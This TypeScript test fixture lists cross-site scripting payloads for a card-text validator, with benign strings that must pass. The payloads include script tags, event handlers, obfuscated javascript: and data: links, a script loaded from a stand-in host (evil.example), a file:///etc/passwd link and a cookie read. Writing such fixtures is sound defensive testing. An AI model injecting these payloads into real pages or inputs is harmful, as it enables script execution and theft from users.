/**
 * Card text that would run or load something in a Markdown or HTML renderer, each spelled
 * the ways that slip past a naive check. Shared by the validator's tests and the exports'.
 */
export const ACTIVE_CONTENT_PAYLOADS: readonly string[] = [
  // Script and other active elements.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<sCrIpT>alert(1)</sCrIpT>',
  '<script\n>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)>',
  '<style>body{display:none}</style>',
  '<object data="x.swf"></object>',
  '<!-- a comment hiding <script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  // Script and data links in Markdown link and image syntax.
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](java\tscript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](\u0000javascript:alert(1))',
  '[x](java\u200bscript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x][ref]\n[ref]: javascript:alert(1)',
  // Autolinks.
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  // HTML character references that decode to a script link or a tag.
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&#x3A;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#0000106;&#0000097;vascript:alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  // Bare script schemes.
  'javascript:alert(1)',
  'Open JAVASCRIPT:alert(document.cookie) to check',
  'vbscript:msgbox(1)',
];

/** Card text that is not active content and must be accepted and shown as written. */
export const PLAIN_CARD_TEXT: readonly string[] = [
  'Reply to <EMAIL> with the <ID> of the order',
  'If count < limit, read the next page',
  'search_messages -> read_message -> reply',
  'The tool returns data: a list of messages',
  'Use `get_order(order_id)` before [optional] fields are written',
  'Ask the user (politely) for the order number',
  'Tom & Jerry: both names are accepted',
];
